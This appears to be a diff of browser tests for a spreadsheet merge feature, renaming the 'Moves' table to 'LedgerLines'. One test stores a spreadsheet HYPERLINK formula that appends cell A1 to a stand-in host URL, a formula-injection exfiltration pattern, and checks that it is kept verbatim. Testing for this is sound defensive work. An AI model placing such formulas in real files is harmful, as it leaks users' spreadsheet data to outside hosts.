@@ -31,14 +31,14 @@ describe('bringing another copy in', () => {
     const page = await openMerge();
     await chooseCopy(page, otherCopy);
     await preview(page).getByRole('row', { name: 'Lots L-9 1' }).waitFor();
-    await preview(page).getByRole('row', { name: 'Moves W-1, W-2 2' }).waitFor();
+    await preview(page).getByRole('row', { name: 'LedgerLines W-1, W-2 2' }).waitFor();
     await preview(page).getByRole('row', { name: 'Pack price 9 8' }).waitFor();
     await preview(page).getByText('The recipe of Pearl differs in the two copies').waitFor();
     expect(await tables(page)).toEqual(soundWorkshop);
     await takeTheOthers(page);
     await page.locator('#record').click();
     await heading(page).getByText('Brought in').waitFor();
-    expect(await column(page, 'Moves', 'Entry')).toEqual(['W-1', 'W-2']);
+    expect(await column(page, 'LedgerLines', 'Entry')).toEqual(['W-1', 'W-2']);
     expect((await column(page, 'Materials', 'Pack price'))[0]).toBe(8);
     expect(await page.evaluate(() => window.pane.port.written.length)).toBe(1);
     await page.locator('#another').click();
@@ -159,12 +159,12 @@ describe('bringing another copy in', () => {
     const page = await openMerge();
     await chooseCopy(
       page,
-      withRows(otherCopy, 'Moves', (rows) => [
+      withRows(otherCopy, 'LedgerLines', (rows) => [
         ...rows,
         ...rows.slice(0, 1).map((row) => row.with(4, -1)),
       ]),
     );
-    await page.getByText('In the other copy two lines of Moves share the id W-1.').waitFor();
+    await page.getByText('In the other copy two lines of LedgerLines share the id W-1.').waitFor();
     expect(await page.locator('#record').count()).toBe(0);
     expect(await tables(page)).toEqual(soundWorkshop);
   });
@@ -174,19 +174,19 @@ describe('bringing another copy in', () => {
     const note = '=HYPERLINK("http://example.invalid/?"&A1,"Invoice")';
     await chooseCopy(
       page,
-      withRows(otherCopy, 'Moves', (rows) => rows.map((row) => row.with(9, note))),
+      withRows(otherCopy, 'LedgerLines', (rows) => rows.map((row) => row.with(9, note))),
     );
     await takeTheOthers(page);
     await page.locator('#record').click();
     await page.locator('pour-merge-done').waitFor();
-    expect(await column(page, 'Moves', 'Note')).toEqual([note, note]);
+    expect(await column(page, 'LedgerLines', 'Note')).toEqual([note, note]);
   });
 
   it('writes nothing where the two together make no book, and says why', async () => {
     const page = await openMerge();
     await chooseCopy(
       page,
-      withRows(otherCopy, 'Moves', () => rowsOf(['W-1|2026-11-03|wasted|Moonshine|-1|||||'])),
+      withRows(otherCopy, 'LedgerLines', () => rowsOf(['W-1|2026-11-03|wasted|Moonshine|-1|||||'])),
     );
     await preview(page).getByText("can't be read as one book").waitFor();
     await preview(page).getByText('"Moonshine"').waitFor();
@@ -217,7 +217,7 @@ describe('bringing another copy in', () => {
     await page.getByText('Recording of other.xlsx broke off').waitFor();
     await page.locator('#record').click();
     await page.locator('pour-merge-done').waitFor();
-    expect(await column(page, 'Moves', 'Entry')).toEqual(['W-1', 'W-2']);
+    expect(await column(page, 'LedgerLines', 'Entry')).toEqual(['W-1', 'W-2']);
     expect((await column(page, 'Lots', 'Lot')).at(-1)).toBe('L-9');
   });
 
